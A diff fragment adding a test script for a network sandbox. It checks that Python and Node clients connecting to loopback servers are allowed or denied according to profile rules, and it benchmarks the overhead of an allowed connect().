+       "enforce: binding a unix socket needs an inbound rule; no socket file appears",
+       r.diag())
+
+# ---- what is not judged here -----------------------------------------------
+PY_NETLINK = r"""
+import socket
+n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
+n.bind((0, 0))
+a, b = socket.socketpair()
+a.send(b"x")
+print("ok", b.recv(1).decode())
+"""
+r = run(py(PY_NETLINK), profile=P_NONAME, mode="enforce")
+tap.ok(r.stdout == "ok x\n" and not only_network(r),
+       "enforce: AF_NETLINK and socketpair are left to the seccomp layer", r.diag())
+
+# ---- real clients ----------------------------------------------------------
+PY_URLLIB = r"""
+import sys, urllib.request
+try:
+    with urllib.request.urlopen(f"http://localhost:{sys.argv[1]}/", timeout=5) as resp:
+        sys.stdout.write(resp.read().decode())
+except Exception as e:
+    print(type(e).__name__, getattr(e, "reason", e))
+"""
+NOPROXY = {"no_proxy": "*", "NO_PROXY": "*"}
+Web.hits = 0
+r = run(py(PY_URLLIB, HTTP_PORT), profile=profile([{"host": "localhost"}], "web"),
+        mode="enforce", env=NOPROXY)
+tap.ok(r.stdout == "hello from loopback\n" and Web.hits == 1 and not only_network(r),
+       "enforce: urllib to a loopback http.server allowed by {host: localhost}", r.diag())
+Web.hits = 0
+r = run(py(PY_URLLIB, HTTP_PORT), profile=P_NONAME, mode="enforce", env=NOPROXY)
+tap.ok("URLError" in r.stdout and Web.hits == 0 and
+       net_events(r, type="violation", op="getaddrinfo", target=f"localhost:{HTTP_PORT}"),
+       "enforce: urllib to a host outside the profile fails before any request", r.diag())
+
+NODE_CONNECT = r"""
+const net = require('net');
+const [host, port] = [process.argv[1], Number(process.argv[2])];
+const s = net.connect({host, port}, () => { s.end('ping'); console.log('ok'); });
+s.on('error', (e) => console.log(e.code));
+"""
+NODE_LOOKUP = r"""
+require('dns').lookup('localhost', {family: 4}, (err, addr) =>
+  console.log(err ? err.code : addr));
+"""
+if not NODE:
+    for name in ("node net.connect allowed", "node net.connect denied",
+                 "node dns.lookup denied", "node dns.lookup allowed"):
+        tap.ok(True, f"{name} # SKIP node not found")
+else:
+    reset()
+    r = run([NODE, "-e", NODE_CONNECT, "127.0.0.1", str(TCP4.port)], profile=P_TCP,
+            mode="enforce")
+    tap.ok(r.stdout == "ok\n" and TCP4.count(1) == 1 and not only_network(r),
+           "enforce: node net.connect allowed by a cidr rule", r.diag())
+    reset()
+    r = run([NODE, "-e", NODE_CONNECT, "127.0.0.1", str(TCP4B.port)], profile=P_TCP,
+            mode="enforce")
+    tap.ok(r.stdout == "ECONNREFUSED\n" and TCP4B.count() == 0 and
+           net_events(r, type="violation", op="connect", target=f"127.0.0.1:{TCP4B.port}"),
+           "enforce: node net.connect denied: ECONNREFUSED, nothing reached the server",
+           r.diag())
+    r = run([NODE, "-e", NODE_LOOKUP], profile=P_NONAME, mode="enforce")
+    tap.ok(r.stdout == "EAI_FAIL\n" and
+           net_events(r, type="violation", op="getaddrinfo", target="localhost",
+                      action="blocked"),
+           "enforce: node dns.lookup of a name outside the profile fails (EAI_FAIL)", r.diag())
+    reset()
+    r = run([NODE, "-e", NODE_LOOKUP], profile=P_NAME, mode="enforce")
+    r2 = run([NODE, "-e", NODE_CONNECT, "localhost", str(TCP4.port)], profile=P_NAME,
+             mode="enforce")
+    tap.ok(r.stdout == "127.0.0.1\n" and not only_network(r) and r2.stdout == "ok\n" and
+           TCP4.count(1) == 1 and not only_network(r2),
+           "enforce: node dns.lookup and net.connect by an allowed name", r.diag() + r2.diag())
+
+
+# ---- cost of an allowed connect (reported, not judged) ------------------------
+P_BENCH_CIDR = profile([{"cidr": "127.0.0.1"}, {"cidr": "::1"}], "bench-cidr")
+P_BENCH_NAME = profile([{"host": "localhost"}], "bench-name")
+CONFIGS = (
+    ("udp", "bare", "127.0.0.1", None),
+    ("udp", "cidr rule", "127.0.0.1", P_BENCH_CIDR),
+    ("udp", "host rule", "localhost", P_BENCH_NAME),
+    ("tcp", "bare", "127.0.0.1", None),
+    ("tcp", "cidr rule", "127.0.0.1", P_BENCH_CIDR),
+    ("tcp", "host rule", "localhost", P_BENCH_NAME),
+)
+
+
+def bench_once(kind, host, prof):
+    port = "0" if kind == "tcp" else str(UDP4.port)
+    r = run([NETOPS, "bench", kind, host, port, 2000 if kind == "tcp" else 5000],
+            profile=prof, mode="enforce" if prof else None, preload=prof is not None)
+    try:
+        return int(r.stdout.strip()), r
+    except ValueError:
+        return None, r
+
+
+samples = {c: [] for c in CONFIGS}
+last = None
+for _ in range(3):  # interleaved, so that a noisy moment hits every configuration
+    for c in CONFIGS:
+        v, last = bench_once(c[0], c[2], c[3])
+        samples[c].append(v)
+ok = all(v is not None for vs in samples.values() for v in vs)
+tap.ok(ok, "the connect benchmark ran in every configuration", last.diag() if last else "")
+if ok:
+    median = {c: sorted(vs)[1] for c, vs in samples.items()}
+    for c in CONFIGS:
+        bare = median[(c[0], "bare", "127.0.0.1", None)]
+        extra = "" if c[3] is None else f" ({median[c] - bare:+d} ns over bare)"
+        print(f"# connect() {c[0]} loopback, {c[1]}: {median[c]} ns{extra}")
+
+HTTPD.shutdown()
+shutil.rmtree(W, ignore_errors=True)
+sys.exit(tap.done())
